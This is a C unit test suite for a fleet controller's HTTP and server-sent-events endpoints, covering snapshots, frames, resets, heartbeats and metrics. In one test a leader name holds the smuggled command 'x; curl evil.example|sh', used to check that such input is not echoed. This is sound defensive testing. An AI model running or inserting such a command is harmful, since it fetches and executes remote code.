#include "controller/fleet.h"
#include "controller/fleet_frames.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "base/metrics.h"
#include "base/str.h"
#include "serve/server.h"
#include "tests/unit/support/suite.h"
#include "tests/unit/support/web_client.h"

#define HOLDER "pod-7-x_1f"
#define ID(n) HOLDER "-" #n

/* An operator whose cluster is a list of removed names: all others are shown. */
struct world {
    struct web_client client;
    int64_t now_ms;
    struct clock clock;
    struct loop *loop;
    struct metrics *metrics;
    struct server *server;
    struct fleet *fleet;
    const char *gone;   /* NULL: every node is shown */
    const char *why;    /* NULL: it leads */
    const char *leader; /* of `why` */
    bool deaf;
    size_t snapshots, rows, policies;
    char *long_policy; /* NULL: a short one */
};

static int64_t world_mono(void *self)
{
    return ((struct world *) self)->now_ms;
}

/* 2026-11-29T00:00:00Z when the monotonic clock is 0. */
static int64_t world_wall(void *self)
{
    return INT64_C(1795910400) * 1000000 + world_mono(self) * 1000;
}

static void make_snapshot(void *arg, const char *id, struct buf *out)
{
    struct world *w = arg;
    w->snapshots++;
    buf_printf(out, "{\"id\":\"%s\"}", id);
}

static bool make_row(void *arg, const char *name, struct buf *out)
{
    struct world *w = arg;
    w->rows++;
    if (str_eq(name, w->gone))
        return false;
    buf_printf(out, "[\"%s\"]", name);
    return true;
}

static void make_policy(void *arg, struct buf *out)
{
    struct world *w = arg;
    w->policies++;
    buf_str(out, w->long_policy ? w->long_policy : "{\"name\":\"default\"}");
}

static bool make_node(void *arg, const char *name, struct buf *out)
{
    struct world *w = arg;
    if (str_eq(name, w->gone))
        return false;
    buf_printf(out, "{\"name\":\"%s\"}", name);
    return true;
}

static char *why_nothing(void *arg, char **ret_leader)
{
    const struct world *w = arg;
    *ret_leader = xstrdup_or_null(w->leader);
    return xstrdup_or_null(w->why);
}

static bool world_hears(void *arg)
{
    return !((struct world *) arg)->deaf;
}

static void write_metrics(void *arg, struct buf *out)
{
    (void) arg;
    buf_str(out, "m 1\n");
}

static void turn(void *arg)
{
    struct world *w = arg;
    loop_turn(w->loop);
    assert_int_equal(server_run_once(w->server, 1), 0);
}

static int open_world(void **state)
{
    static struct world world;
    struct world *w = &world;
    struct err e = { 0 };
    *w = (struct world){ .now_ms = 1000, .clock = { world_mono, world_wall, w } };
    w->loop = loop_new_virtual(&w->clock);
    w->metrics = metrics_new(16);
    const struct server_options so = { .listen = "", .metrics = write_metrics };
    w->server = server_new(&so, &e);
    const struct fleet_options o = {
        .listen = "127.0.0.1:0",
        .hosts = "",
        .holder = HOLDER,
        .server = w->server,
        .loop = w->loop,
        .metrics = w->metrics,
        .texts = { make_snapshot, make_row, make_policy, make_node, world_wall, why_nothing,
                   world_hears, w },
    };
    w->fleet = fleet_new(&o, &e);
    if (!w->fleet)
        fail_msg("%s", err_msg(&e));
    w->client = (struct web_client){ fleet_port(w->fleet), turn, w };
    *state = w;
    return 0;
}

static int close_world(void **state)
{
    struct world *w = *state;
    server_free(w->server);
    fleet_free(w->fleet);
    metrics_free(w->metrics);
    loop_free(w->loop);
    free(w->long_policy);
    return 0;
}

#define GET(target, more) "GET " target " HTTP/1.1\r\nHost: localhost\r\n" more "\r\n"

static void expect(struct world *w, const char *request, int status, const char *part)
{
    CLEANUP_BUF struct buf out = BUF_INIT(1 << 16);
    CLEANUP_FREE char *line = xasprintf("HTTP/1.1 %d ", status);
    web_exchange(&w->client, request, &out);
    if (!str_has_prefix(buf_text(&out), line) || !strstr(buf_text(&out), part))
        fail_msg("want %d with %s: %s", status, part, buf_text(&out));
}

static void pass(struct world *w, int64_t ms)
{
    for (int64_t end = w->now_ms + ms; w->now_ms < end;) {
        w->now_ms += end - w->now_ms < 50 ? end - w->now_ms : 50;
        turn(w);
    }
}

/* Opens a stream and returns what it is greeted with, without the head. */
static int open_stream(struct world *w, const char *request, struct buf *out)
{
    int fd = web_dial(&w->client);
    CLEANUP_BUF struct buf text = BUF_INIT(1 << 20);
    web_say(fd, request);
    assert_true(web_read(&w->client, fd, "}\n\n", &text));
    const char *body = strstr(buf_text(&text), "\r\n\r\n");
    assert_non_null(body);
    buf_str(out, body + 4);
    return fd;
}

static int watch(struct world *w)
{
    CLEANUP_BUF struct buf out = BUF_INIT(1 << 16);
    return open_stream(w, GET("/events", ""), &out);
}

/* What a stream gets until the time has passed. */
static char *hear(struct world *w, int fd, int64_t ms)
{
    struct buf out = BUF_INIT(4 << 20);
    for (int64_t end = w->now_ms + ms; w->now_ms < end;) {
        char part[65536];
        ssize_t n;
        pass(w, 50);
        while ((n = recv(fd, part, sizeof part, MSG_DONTWAIT)) > 0)
            assert_true(buf_add(&out, part, (size_t) n));
    }
    return buf_take(&out);
}

static void expect_heard(struct world *w, int fd, int64_t ms, const char *want)
{
    CLEANUP_FREE char *heard = hear(w, fd, ms);
    assert_string_equal(heard, want);
}

/* ---- paths */

static void each_path_has_its_answer(void **state)
{
    struct world *w = *state;
    w->gone = "gone";
    expect(w, GET("/fleet.json", ""), 200, "{\"id\":\"" ID(1) "\"}");
    expect(w, GET("/fleet.json?x", ""), 200, "etag: \"" ID(1) "\"");
    expect(w, GET("/fleet.json", "If-None-Match: \"" ID(1) "\"\r\n"), 304, "");
    expect(w, GET("/node/gpu-1.json", ""), 200, "{\"name\":\"gpu-1\"}");
    expect(w, GET("/node/gpu-1.example.json", ""), 200, "{\"name\":\"gpu-1.example\"}");
    expect(w, GET("/node/gone.json", ""), 404, "{\"error\":");
    expect(w, GET("/node/gpu-1", ""), 404, "{\"error\":");
    expect(w, GET("/node/", ""), 404, "{\"error\":");
    expect(w, GET("/node", ""), 404, "{\"error\":");
    expect(w, GET("/fleet.json/x", ""), 404, "{\"error\":\"the paths are ");
    expect(w, GET("/fleet.jsonx", ""), 404, "{\"error\":\"the paths are ");
    expect(w, GET("/metrics", ""), 404, "{\"error\":\"the paths are ");
    assert_int_equal(w->snapshots, 1);
}

static void a_standby_names_the_leader(void **state)
{
    struct world *w = *state;
    w->why = "this replica does not lead";
    w->leader = "ostler-b";
    const char *want = "{\"error\":\"this replica does not lead\",\"leader\":\"ostler-b\"}";
    expect(w, GET("/fleet.json", ""), 503, want);
    expect(w, GET("/events", ""), 503, want);
    expect(w, GET("/node/gpu-1.json", ""), 503, want);
    w->leader = NULL;
    expect(w, GET("/fleet.json", ""), 503, "{\"error\":\"this replica does not lead\"}");
    w->why = "\xe2\x80\xae turned";
    w->leader = "x; curl evil.example|sh";
    expect(w, GET("/fleet.json", ""), 503, "{\"error\":\"\\\\u202e turned\"}");
    w->leader = "--context=evil";
    expect(w, GET("/fleet.json", ""), 503, " turned\"}");
    assert_int_equal(w->snapshots, 0);
}

static void an_id_is_the_same_everywhere(void **state)
{
    (void) state;
    char id[PAGE_TAG_MAX], more[PAGE_TAG_MAX];
    uint64_t n = 0;
    fleet_id("my box\n\"%_1", 7, id);
    assert_string_equal(id, "my_box____1-7");
    assert_true(fleet_id_parse(id, "my box\n\"%_1", &n));
    assert_int_equal(n, 7);
    assert_false(fleet_id_parse("my_box____1-07", "my box\n\"%_1", &n));
    CLEANUP_FREE char *long_name = xasprintf("%0300d", 0);
    fleet_id(long_name, 7, more);
    assert_true(fleet_id_parse(more, long_name, &n));
}

static void snapshots_are_shared_for_two_seconds(void **state)
{
    struct world *w = *state;
    expect(w, GET("/fleet.json", ""), 200, ID(1));
    expect(w, GET("/fleet.json", ""), 200, ID(1));
    assert_int_equal(w->snapshots, 1);
    pass(w, 2100);
    expect(w, GET("/fleet.json", ""), 200, ID(1));
    assert_int_equal(w->snapshots, 2);
    fleet_changed(w->fleet, "gpu-1");
    pass(w, 300);
    expect(w, GET("/fleet.json", "If-None-Match: \"" ID(1) "\"\r\n"), 200, ID(2));
    assert_int_equal(w->snapshots, 3);
}

/* ---- frames */

static void nothing_is_made_while_no_viewer_looks(void **state)
{
    struct world *w = *state;
    fleet_changed(NULL, "gpu-1");
    fleet_changed(w->fleet, "gpu-1");
    fleet_changed(w->fleet, NULL);
    pass(w, 1000);
    assert_int_equal(w->rows + w->policies, 0);
}

static void changes_become_one_frame_with_the_newest(void **state)
{
    struct world *w = *state;
    int fd = watch(w);
    fleet_changed(w->fleet, "gpu-1");
    expect_heard(w, fd, 200, "");
    fleet_changed(w->fleet, "gpu-1");
    expect_heard(w, fd, 100,
                 "event: nodes\ndata: {\"asOf\":\"2026-11-29T00:00:01Z\",\"set\":[[\"gpu-1\"]],"
                 "\"removed\":[]}\nid: " ID(2) "\n\n");
    assert_int_equal(w->rows, 1);
    expect_heard(w, fd, 1000, "");
    close(fd);
}

static void removed_nodes_are_named(void **state)
{
    struct world *w = *state;
    int fd = watch(w);
    w->gone = "gone\"";
    fleet_changed(w->fleet, w->gone);
    CLEANUP_FREE char *heard = hear(w, fd, 300);
    assert_non_null(strstr(heard, "\"set\":[],\"removed\":[\"gone\\\"\"]}\n"));
    close(fd);
}

static void the_policy_has_its_own_frame(void **state)
{
    struct world *w = *state;
    int fd = watch(w);
    fleet_changed(w->fleet, NULL);
    fleet_changed(w->fleet, "gpu-1");
    CLEANUP_FREE char *heard = hear(w, fd, 300);
    assert_non_null(strstr(heard, "\nid: " ID(2) "\n\nevent: policy\ndata: {\"asOf\":\""));
    assert_non_null(strstr(heard, "Z\",\"policy\":{\"name\":\"default\"}}\nid: " ID(3) "\n\n"));
    close(fd);
}

/* A busy rollout changes the policy all the time: it has a frame a second, and nodes have theirs as
 * soon as always. The last change has one, too. */
static void the_policy_has_a_frame_a_second(void **state)
{
    struct world *w = *state;
    int fd = watch(w);
    for (int i = 0; i < 40; i++) { /* four seconds */
        fleet_changed(w->fleet, NULL);
        fleet_changed(w->fleet, "gpu-1");
        free(hear(w, fd, 100));
    }
    assert_in_range(w->policies, 3, 5);
    assert_in_range(w->rows, 13, 16);
    size_t before = w->policies;
    free(hear(w, fd, 1300));
    assert_int_equal(w->policies, before + 1);
    fleet_changed(w->fleet, NULL);
    free(hear(w, fd, 300));
    assert_int_equal(w->policies, before + 2);
    free(hear(w, fd, 2000));
    assert_int_equal(w->policies, before + 2);
    close(fd);
}

static void change_many(struct world *w, int count)
{
    for (int i = 0; i < count; i++) {
        char name[32];
        snprintf(name, sizeof name, "gpu-%d", i);
        fleet_changed(w->fleet, name);
    }
}

static void more_than_2000_nodes_are_a_reset(void **state)
{
    struct world *w = *state;
    int fd = watch(w);
    change_many(w, 2000);
    CLEANUP_FREE char *nodes = hear(w, fd, 300);
    assert_true(str_has_prefix(nodes, "event: nodes\n"));
    change_many(w, 2001);
    fleet_changed(w->fleet, NULL);
    expect_heard(w, fd, 300, "event: reset\ndata: {}\nid: " ID(3) "\n\n");
    change_many(w, 1);
    CLEANUP_FREE char *again = hear(w, fd, 300);
    assert_true(str_has_prefix(again, "event: nodes\n"));
    close(fd);
}

static void a_frame_that_fills_the_ring_is_a_reset(void **state)
{
    struct world *w = *state;
    int fd = watch(w);
    w->long_policy = xasprintf("\"%0600000d\"", 0);
    fleet_changed(w->fleet, NULL);
    expect_heard(w, fd, 300, "event: reset\ndata: {}\nid: " ID(2) "\n\n");
    close(fd);
}

/* ---- where a stream begins */

static void a_stream_continues_after_the_snapshot(void **state)
{
    struct world *w = *state;
    CLEANUP_BUF struct buf out = BUF_INIT(1 << 16);
    expect(w, GET("/fleet.json", ""), 200, ID(1));
    fleet_changed(w->fleet, "gpu-1");
    pass(w, 300);
    int fd = open_stream(w, GET("/events?after=" ID(1), ""), &out);
    assert_true(str_has_prefix(buf_text(&out), "retry: 2000\nevent: beat\ndata: {\"asOf\":"));
    if (!strstr(buf_text(&out), "[[\"gpu-1\"]]"))
        assert_true(web_read(&w->client, fd, "[[\"gpu-1\"]]", &out));
    close(fd);
}

static const struct row {
    const char *name;
    const char *request;
    const char *event; /* the first event */
} beginnings[] = {
    { "from now on", GET("/events", ""), "beat" },
    { "after the newest frame", GET("/events?after=" ID(2), ""), "beat" },
    { "after an older one", GET("/events?after=" ID(1), ""), "beat" },
    { "after one that is not there yet", GET("/events?after=" ID(3), ""), "reset" },
    { "after none", GET("/events?after=" ID(0), ""), "reset" },
    { "after another leader's frame", GET("/events?after=pod-8-y_2a-1", ""), "reset" },
    { "after a frame of a longer holder", GET("/events?after=" HOLDER "f-1", ""), "reset" },
    { "after a frame of a shorter holder", GET("/events?after=pod-7-1", ""), "reset" },
    { "after no number", GET("/events?after=" HOLDER "-x", ""), "reset" },
    { "after a negative number", GET("/events?after=" HOLDER "--1", ""), "reset" },
    { "after a number that is too large", GET("/events?after=" HOLDER "-99999999999999999999", ""),
      "reset" },
    { "after nothing", GET("/events?after=", ""), "reset" },
    { "the header counts more", GET("/events?after=" ID(1), "Last-Event-ID: other-1\r\n"),
      "reset" },
    { "the header of a browser that connects again",
      GET("/events?after=other-1", "Last-Event-ID: " ID(1) "\r\n"), "beat" },
    { "an empty header", GET("/events?after=" ID(1), "Last-Event-ID:\r\n"), "beat" },
};

static void check_beginning(void **state)
{
    const struct row *row = *state;
    void *opened;
    open_world(&opened);
    struct world *w = opened;
    int other = watch(w);
    fleet_changed(w->fleet, "gpu-1");
    pass(w, 300);
    CLEANUP_BUF struct buf out = BUF_INIT(1 << 16);
    close(open_stream(w, row->request, &out));
    CLEANUP_FREE char *want = xasprintf("retry: 2000\nevent: %s\n", row->event);
    if (!str_has_prefix(buf_text(&out), want))
        fail_msg("want %s: %s", want, buf_text(&out));
    close(other);
    close_world(&opened);
}

/* ---- beats, and the end */

static void a_quiet_stream_has_a_beat_every_25_seconds(void **state)
{
    struct world *w = *state;
    int fd = watch(w);
    expect_heard(w, fd, 24900, "");
    expect_heard(w, fd, 200, "event: beat\ndata: {\"asOf\":\"2026-11-29T00:00:26Z\"}\n\n");
    pass(w, 10000);
    fleet_changed(w->fleet, "gpu-1");
    CLEANUP_FREE char *frame = hear(w, fd, 300);
    assert_true(str_has_prefix(frame, "event: nodes\n"));
    expect_heard(w, fd, 24600, ""); /* counted from the frame */
    CLEANUP_FREE char *beat = hear(w, fd, 400);
    assert_true(str_has_prefix(beat, "event: beat\n"));
    close(fd);
}

static void an_ostler_that_hears_nothing_has_no_beat(void **state)
{
    struct world *w = *state;
    int fd = watch(w);
    w->deaf = true;
    expect_heard(w, fd, 25200, ":\n\n");
    close(fd);
}

static void without_viewers_nothing_is_gathered_after_a_minute(void **state)
{
    struct world *w = *state;
    close(watch(w));
    fleet_changed(w->fleet, "gpu-1");
    pass(w, 1000);
    assert_int_equal(w->rows, 1); /* the viewer may come back */
    pass(w, 90000);
    fleet_changed(w->fleet, "gpu-1");
    pass(w, 1000);
    assert_int_equal(w->rows, 1);
    CLEANUP_BUF struct buf out = BUF_INIT(1 << 16);
    close(open_stream(w, GET("/events?after=" ID(2), ""), &out)); /* what came since is not known */
    assert_true(str_has_prefix(buf_text(&out), "retry: 2000\nevent: reset\n"));
    expect(w, GET("/fleet.json", "If-None-Match: \"" ID(2) "\"\r\n"), 200, ID(3));
}

static void a_viewer_of_a_day_gets_its_frames(void **state)
{
    struct world *w = *state;
    int fd = watch(w);
    for (int hour = 0; hour < 24; hour++) {
        w->now_ms += 3600 * 1000;
        turn(w);
        CLEANUP_FREE char *beat = hear(w, fd, 100);
        assert_true(str_has_prefix(beat, "event: beat\n"));
    }
    fleet_changed(w->fleet, "gpu-1");
    CLEANUP_FREE char *frame = hear(w, fd, 300);
    assert_true(str_has_prefix(frame, "event: nodes\n"));
    close(fd);
}

static void metrics_count_what_was_served(void **state)
{
    struct world *w = *state;
    int fd = watch(w);
    fleet_changed(w->fleet, "gpu-1");
    pass(w, 300);
    expect(w, "GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n", 421, "");
    CLEANUP_BUF struct buf out = BUF_INIT(1 << 16);
    fleet_update_metrics(w->fleet);
    metrics_text(w->metrics, &out);
    assert_non_null(strstr(buf_text(&out), "ostler_page_streams 1\n"));
    assert_non_null(strstr(buf_text(&out), "ostler_page_frames_total 1\n"));
    assert_non_null(strstr(buf_text(&out), "ostler_page_refused_total{reason=\"host\"} 1\n"));
    assert_null(strstr(buf_text(&out), "ostler_page_sent_bytes_total 0\n"));
    close(fd);
    fleet_update_metrics(NULL);
}

static const struct suite_check checks[] = {
    { "each path has its answer", each_path_has_its_answer },
    { "a standby names the leader", a_standby_names_the_leader },
    { "an id is the same everywhere", an_id_is_the_same_everywhere },
    { "snapshots are shared for two seconds", snapshots_are_shared_for_two_seconds },
    { "nothing is made while no viewer looks", nothing_is_made_while_no_viewer_looks },
    { "changes become one frame with the newest", changes_become_one_frame_with_the_newest },
    { "removed nodes are named", removed_nodes_are_named },
    { "the policy has its own frame", the_policy_has_its_own_frame },
    { "the policy has a frame a second", the_policy_has_a_frame_a_second },
    { "more than 2,000 nodes are a reset", more_than_2000_nodes_are_a_reset },
    { "a frame that fills the ring is a reset", a_frame_that_fills_the_ring_is_a_reset },
    { "a stream continues after the snapshot", a_stream_continues_after_the_snapshot },
    { "a quiet stream has a beat every 25 seconds", a_quiet_stream_has_a_beat_every_25_seconds },
    { "an Ostler that hears nothing has no beat", an_ostler_that_hears_nothing_has_no_beat },
    { "without viewers nothing is gathered after a minute",
      without_viewers_nothing_is_gathered_after_a_minute },
    { "a viewer of a day gets its frames", a_viewer_of_a_day_gets_its_frames },
    { "metrics count what was served", metrics_count_what_was_served },
};

int main(void)
{
    struct suite s = { 0 };
    SUITE_CHECKS(&s, checks, open_world, close_world);
    SUITE_ROWS(&s, check_beginning, beginnings);
    return suite_run(&s, "fleet");
}
